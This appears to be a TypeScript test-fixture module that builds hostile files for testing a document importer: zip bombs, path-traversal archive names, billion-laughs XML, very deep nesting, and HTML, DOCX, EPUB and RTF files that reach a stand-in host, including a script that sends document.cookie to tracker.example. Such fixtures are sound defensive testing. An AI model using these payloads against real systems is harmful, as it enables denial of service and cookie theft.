// Files made to do harm, small where they lie and large where they unfold, for tests of the import.
import { zipSync, type Zippable } from 'fflate';
import { deflateRawSync } from 'node:zlib';
import { docxOf, epubOf, odtOf, zipOf, paragraph } from '../fixtures/office/make-documents.ts';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** An archive whose one entry unfolds to `megabytes` of zeros: a thousandth of that on disk. */
export function zipBomb(inner: string, megabytes: number): Uint8Array {
  const unfolded = Buffer.alloc(megabytes * 1024 * 1024);
  const packed = deflateRawSync(unfolded, { level: 9 });
  const bytes = Buffer.from(zipSync({ [inner]: [new Uint8Array(packed), { level: 0 }] }));
  const directory = bytes.indexOf('PK\u0001\u0002');
  for (const [at, unfoldedAt] of [[8, 22], [directory + 10, directory + 24]] as const) {
    bytes.writeUInt16LE(8, at);
    bytes.writeUInt32LE(unfolded.length, unfoldedAt);
  }
  return new Uint8Array(bytes);
}

/** `count` empty texts: the table of contents is what takes the room. */
export function zipOfMany(count: number): Uint8Array {
  const entries: Zippable = {};
  for (let at = 0; at < count; at++) entries[`${at}.txt`] = [new Uint8Array(), { level: 0 }];
  return zipSync(entries);
}

/** An archive in an archive, `depth` times. */
export function nestedZip(depth: number): Uint8Array {
  let bytes = zipSync({ 'core.txt': utf8('At last, some words.') });
  for (let at = 0; at < depth; at++) bytes = zipSync({ [`${at}.zip`]: bytes });
  return bytes;
}

/** Names that lead out, and one that does not. */
export function zipThatLeadsOut(): Uint8Array {
  return zipSync({ '../../outside.txt': utf8('Out.'), '/tmp/outside.txt': utf8('Out.'), 'C:\\outside.txt': utf8('Out.'), 'inside.txt': utf8('This one stays inside the archive, where it belongs.') });
}

/** Sets the flag that says "encrypted" on every entry. */
export function lockedZip(names: readonly string[]): Uint8Array {
  const bytes = Buffer.from(zipSync(Object.fromEntries(names.map((name) => [name, utf8(`Words of ${name}.`)]))));
  for (let at = bytes.indexOf('PK\u0001\u0002'); at !== -1; at = bytes.indexOf('PK\u0001\u0002', at + 1)) bytes[at + 8] = (bytes[at + 8] ?? 0) | 1;
  return new Uint8Array(bytes);
}

/** Ten entities, each ten times the one before: three gigabytes of "lol". */
const LAUGHS = `<!DOCTYPE bomb [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`;

export function laughingXhtml(): Uint8Array {
  return utf8(`<?xml version="1.0"?>${LAUGHS}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>&a9;</p><p>Some words that can be read, and a few more of them.</p></body></html>`);
}

/** Documents whose main part laughs, by ending. */
export function laughingDocuments(): Record<string, Uint8Array> {
  const word = `<?xml version="1.0"?>${LAUGHS}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>`;
  const chapter = new TextDecoder().decode(laughingXhtml());
  return {
    docx: zipOf({ 'word/document.xml': word }),
    odt: zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': `<?xml version="1.0"?>${LAUGHS}<office:document-content>&a9;</office:document-content>` }),
    epub: epubOf(['<p>x</p>'], '', { 'OEBPS/text/c 0.xhtml': chapter }).bytes,
  };
}

/** 100,000 levels of whatever a format nests, by file name. */
export function deepFiles(depth = 100_000): Record<string, Uint8Array> {
  return {
    'deep.json': utf8(`${'['.repeat(depth)}${']'.repeat(depth)}`),
    'deep-objects.json': utf8(`[{"title":"x","text":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}]`),
    'deep.jsonl': utf8(`${'['.repeat(depth)}${']'.repeat(depth)}\n`),
    'deep.xhtml': utf8(`<html xmlns="http://www.w3.org/1999/xhtml"><body>${'<div>'.repeat(depth)}<p>Words at the bottom of a very deep page, which is read all the same.</p>${'</div>'.repeat(depth)}</body></html>`),
    'deep.html': utf8(`${'<div>'.repeat(depth)}<p>Words at the bottom of a very deep page, which is read all the same.</p>`),
    'deep.fodt': utf8(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>${'<text:section>'.repeat(depth)}`),
    'deep.docx': docxOf('<w:sdt><w:sdtContent>'.repeat(depth)).bytes,
    'deep.odt': odtOf('<text:section>'.repeat(depth)).bytes,
    'deep.epub': epubOf(['<div>'.repeat(depth)]).bytes,
    'deep.rtf': utf8(`{\\rtf1 ${'{'.repeat(depth)}x${'}'.repeat(depth)}}`),
    'deep.md': utf8(`${'>'.repeat(depth)} Words.\n\n${'- '.repeat(depth)}Words.\n\n${'['.repeat(depth)}Words${'*'.repeat(depth)}`),
    'deep.eml': utf8(Array.from({ length: 2000 }, (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\r\n\r\n--b${at}\r\n`).join('')),
  };
}

/** An Office document under a password: not a zip but an old container, with the streams that Office writes. */
export function encryptedOffice(): Uint8Array {
  const bytes = Buffer.alloc(8192);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  bytes.write('EncryptionInfo', 1024, 'utf16le');
  bytes.write('EncryptedPackage', 1152, 'utf16le');
  return new Uint8Array(bytes);
}

/** A page full of what would run or be fetched in a browser; `words` is all that a reader should see. */
export function pageThatReaches(words: string): string {
  return `<!doctype html><html><head><title>Harbour</title><base href="https://tracker.example/"><link rel="stylesheet" href="https://tracker.example/a.css">
<link rel="preload" href="https://tracker.example/font.woff2" as="font"><meta http-equiv="refresh" content="0;url=https://tracker.example/go">
<script src="https://tracker.example/a.js"></script><script>fetch('https://tracker.example/stolen?' + document.cookie); secretWord()</script>
<style>@import 'https://tracker.example/b.css'; body { background: url(https://tracker.example/bg.png) }</style></head>
<body onload="secretWord()"><article><h1>Harbour</h1><p>${words}</p><img src="https://tracker.example/pixel.gif" onerror="secretWord()">
<iframe src="https://tracker.example/frame"></iframe><object data="https://tracker.example/o.swf"></object><video src="https://tracker.example/v.mp4"></video>
<svg><script>secretWord()</script><image href="https://tracker.example/i.svg"/></svg><p>${words}</p></article></body></html>`;
}

/** Documents that point at pictures, styles and templates of another machine. */
export function documentsThatReach(): Record<string, Uint8Array> {
  const far = 'https://tracker.example/x.png';
  return {
    'far.docx': zipOf({
      '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
      'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph('Words of a document with a far picture.')}</w:body></w:document>`,
      'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${far}"/><Relationship Id="r8" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${far}"/></Relationships>`,
    }),
    'far.epub': epubOf([`<p>Words of a book with a far picture.</p><img src="${far}"/>`]).bytes,
    'far.eml': utf8(`From: desk@courier.example\r\nSubject: Harbour\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>Words of a letter with a far picture, long enough to be read.</p><img src="${far}">`),
    'far.mhtml': utf8(`From: <Saved>\r\nSubject: Harbour\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: https://tracker.example/\r\n\r\n${pageThatReaches('Words of a page with far pictures, long enough to be read.')}\r\n--b--\r\n`),
    'far.html': utf8(pageThatReaches('Words of a page with far pictures, long enough to be read.')),
    'far.md': utf8(`# Harbour\n\nWords of a text with a far picture ![x](${far}).\n`),
    'far.rtf': utf8(`{\\rtf1 Words of a text with a far picture.{\\field{\\*\\fldinst INCLUDEPICTURE "${far}"}{\\fldrslt }}\\par}`),
  };
}
